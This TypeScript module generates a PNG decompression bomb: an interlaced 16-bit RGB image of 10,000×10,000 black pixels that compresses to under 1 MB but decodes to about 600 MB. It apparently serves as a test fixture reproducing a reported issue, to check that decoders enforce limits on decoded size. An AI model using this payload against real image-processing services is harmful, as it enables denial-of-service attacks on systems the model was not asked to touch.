import { constants, crc32, createDeflate } from 'node:zlib';

/** Adam7's passes: where each starts and how far it steps, in columns and rows. */
const ADAM7 = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const;

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** Deflates `total` zero bytes without ever holding them: a 600 MB image compresses to ~600 kB. */
async function deflatedZeros(total: number): Promise<Buffer> {
  const deflate = createDeflate({ level: constants.Z_BEST_COMPRESSION });
  const out: Buffer[] = [];
  deflate.on('data', (data: Buffer) => out.push(data));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  const block = Buffer.alloc(1 << 20);
  for (let left = total; left > 0; left -= block.length) {
    const part = left >= block.length ? block : block.subarray(0, left);
    if (!deflate.write(part)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat(out);
}

/**
 * A decompression bomb as issue 17 found it: a PNG of `width`×`height` 16-bit RGB pixels,
 * interlaced (a decoder must hold the whole picture: no row-by-row streaming), all black, so it
 * compresses to under 1 MB (10,000 × 10,000 decodes to 600 MB). The header is honest: only a
 * check of the decoded size, not of the file size, refuses it.
 */
export async function interlacedPngBomb(width = 10_000, height = 10_000): Promise<Buffer> {
  const bytesPerPixel = 6;
  let raw = 0;
  for (const [x0, y0, dx, dy] of ADAM7) {
    const columns = Math.max(0, Math.ceil((width - x0) / dx));
    const rows = Math.max(0, Math.ceil((height - y0) / dy));
    // Each row of a pass: its filter byte (0, none), then its pixels.
    if (columns > 0) raw += rows * (1 + columns * bytesPerPixel);
  }
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(16, 8); // bit depth
  header.writeUInt8(2, 9); // truecolour (RGB)
  header.writeUInt8(0, 10); // deflate
  header.writeUInt8(0, 11); // adaptive filtering
  header.writeUInt8(1, 12); // Adam7 interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', await deflatedZeros(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
